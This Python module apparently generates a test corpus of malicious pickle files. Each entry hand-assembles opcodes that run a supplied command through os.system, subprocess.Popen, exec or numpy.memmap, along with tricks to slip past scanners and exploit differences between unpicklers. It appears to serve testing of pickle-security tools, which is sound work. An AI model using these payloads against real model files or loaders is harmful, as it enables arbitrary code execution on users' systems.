"""Opcodes that call without REDUCE, that stand in the way, or that two unpicklers read differently."""

from __future__ import annotations

import struct
from collections.abc import Callable
from typing import Any

from corpus.assembler import (
    EXEC,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    POP,
    SYSTEM,
    call,
    name,
    pickled,
    text,
    value,
)
from corpus.entry import Place, Technique

_POPEN = name("subprocess", "Popen")


def _act(place: Place) -> bytes:
    return call(SYSTEM, place.command)


def _instance(place: Place) -> bytes:
    return b"(V" + place.command.encode() + b"\nios\nsystem\n."


def _object(place: Place) -> bytes:
    return pickled(b"(" + SYSTEM + text(place.command) + OBJ)


def _in_text(first: bytes = b"") -> Callable[[Place], bytes]:
    return lambda place: first + b"cos\nsystem\n(V" + place.command.encode() + b"\ntR."


def _written(body: Callable[[Place], bytes], protocol: int = 4) -> Callable[[Place], bytes]:
    return lambda place: pickled(body(place), protocol)


def _extension(opcode: bytes, code: int) -> Callable[[Place], bytes]:
    return lambda place: pickled(
        call(name("copyreg", "add_extension"), "os", "system", code)
        + POP
        + opcode
        + value((place.command,))
        + b"R"
    )


def _newobj_of(body: Callable[[Place], bytes]) -> Callable[[Place], bytes]:
    return _written(body)


_WAYS: dict[str, tuple[str, Callable[[Place], bytes], dict[str, Any]]] = {
    "INST": ("a text opcode that calls", _instance, {}),
    "INST in Python": ("read by the unpickler in Python", _instance, {"loader": "pickle in Python"}),
    "OBJ": ("calls what lies below", _object, {}),
    "OBJ of a class": (
        "makes a process",
        _written(lambda p: b"(" + _POPEN + value(["touch", p.marker]) + OBJ + _wait()),
        {},
    ),
    "NEWOBJ": (
        "__new__ of a class made by type, that is a function",
        _written(
            lambda p: call(name("builtins", "type"), "X", (), {"__new__": _ignoring(p)}) + value(()) + NEWOBJ
        ),
        {},
    ),
    "NEWOBJ of a file": (
        "__new__ of an array on disk",
        _written(lambda p: name("numpy", "memmap") + value((p.marker, "u1", "w+", 0, (1,))) + NEWOBJ),
        {},
    ),
    "NEWOBJ_EX": (
        "the same with keywords",
        _written(
            lambda p: (
                name("numpy", "memmap")
                + value((p.marker,))
                + value({"dtype": "u1", "mode": "w+", "shape": (1,)})
                + NEWOBJ_EX
            )
        ),
        {},
    ),
    "EXT1": ("a number for a name that the file registers first", _extension(b"\x82\xf1", 0xF1), {}),
    "EXT2": ("a longer number", _extension(b"\x83" + struct.pack("<H", 4660), 4660), {}),
    "EXT4": ("the longest number", _extension(b"\x84" + struct.pack("<i", 0x1234567), 0x1234567), {}),
    "EXT from the cache": (
        "the registry's cache is filled with the function itself",
        _written(
            lambda p: (
                name("copyreg", "_extension_cache")
                + value(0xF2)
                + SYSTEM
                + b"s0"
                + b"\x82\xf2"
                + value((p.command,))
                + b"R"
            )
        ),
        {},
    ),
    "EXT from the registry": (
        "the registry is written to directly",
        _written(
            lambda p: (
                name("copyreg", "_inverted_registry")
                + value(0xF3)
                + value(("os", "system"))
                + b"s0"
                + b"\x82\xf3"
                + value((p.command,))
                + b"R"
            )
        ),
        {},
    ),
    "persistent id": (
        "which no plain loader knows; nothing runs",
        lambda p: b"Pos.system\n" + b".",
        {"executes": False},
    ),
    "persistent id after the act": (
        "the load fails when all is done",
        _written(lambda p: _act(p) + b"0" + value(1) + b"Q"),
        {},
    ),
    "no STOP": ("the file ends after the act", lambda p: b"\x80\x04" + _act(p), {}),
    "unknown opcode": ("after the act", lambda p: b"\x80\x04" + _act(p) + b"\xff\xff.", {}),
    "STOP on nothing": ("the stack is empty at the end", lambda p: b"\x80\x04" + _act(p) + b"0.", {}),
    "a frame too long": (
        "announced after the act",
        lambda p: b"\x80\x04" + _act(p) + b"\x95" + b"\xff" * 7 + b"\x00",
        {},
    ),
    "bytes too long": ("announced after the act", lambda p: b"\x80\x04" + _act(p) + b"B\xff\xff\xff\x7f", {}),
    "frame": (
        "a frame that fits",
        lambda p: b"\x80\x04\x95" + struct.pack("<Q", len(_act(p)) + 1) + _act(p) + b".",
        {},
    ),
    "frame cut within": (
        "a frame that ends within an opcode's argument is read on by nobody",
        lambda p: b"\x80\x04\x95" + struct.pack("<Q", 4) + b"NN00" + _act(p) + b".",
        {},
    ),
    "protocol twice": ("PROTO in the middle", lambda p: b"\x80\x04N0\x80\x02" + _act(p) + b".", {}),
    "no protocol": ("binary opcodes without PROTO", lambda p: _act(p) + b".", {}),
    "protocol 0": ("text only", _in_text(), {}),
    "octal": (
        "a number that C reads as octal and Python refuses",
        _in_text(b"I010\n0"),
        {},
    ),
    "hexadecimal": (
        "a number that both read as hexadecimal, and few others",
        _in_text(b"I0x10\n0"),
        {},
    ),
    "a number that ends in NUL": (
        "C stops reading there",
        _in_text(b"I1\x002\n0"),
        {},
    ),
    "a long number with L": (
        "LONG with its suffix",
        _in_text(b"L10L\n0"),
        {},
    ),
    "a float in text": (
        "FLOAT of infinity",
        _in_text(b"Finfinity\n0"),
        {},
    ),
    "a long prefix": ("a hundred thousand opcodes first", _written(lambda p: b"N0" * 100_000 + _act(p)), {}),
    "a large prefix": (
        "two megabytes of bytes first",
        _written(lambda p: value(bytes(1 << 21)) + b"0" + _act(p)),
        {},
    ),
    "many marks": ("ten thousand groups opened first", _written(lambda p: b"(" * 10_000 + _act(p)), {}),
    "in a group that is dropped": (
        "POP_MARK throws the result away",
        _written(lambda p: b"(" + _act(p) + b"1N"),
        {},
    ),
    "in a key": ("the call is a dictionary's key", _written(lambda p: b"}" + _act(p) + value(1) + b"s"), {}),
    "deep in data": (
        "after much that is plain",
        _written(lambda p: value({"weights": [0.5] * 5_000, "names": ["a"] * 500}) + b"0" + _act(p)),
        {},
    ),
    "EXEC by INST": (
        "text that exec runs",
        lambda p: b"(V" + p.code.encode() + b"\nibuiltins\nexec\n.",
        {},
    ),
}


def _ignoring(place: Place) -> bytes:
    from corpus.evaluation import any_arguments

    return any_arguments(place)


def _wait() -> bytes:
    return b"q\x00" + b"0" + call(call(name("operator", "methodcaller"), "wait"), type(EXEC)(b"h\x00"))


TECHNIQUES = [Technique(way, "opcodes", about, made, **more) for way, (about, made, more) in _WAYS.items()]
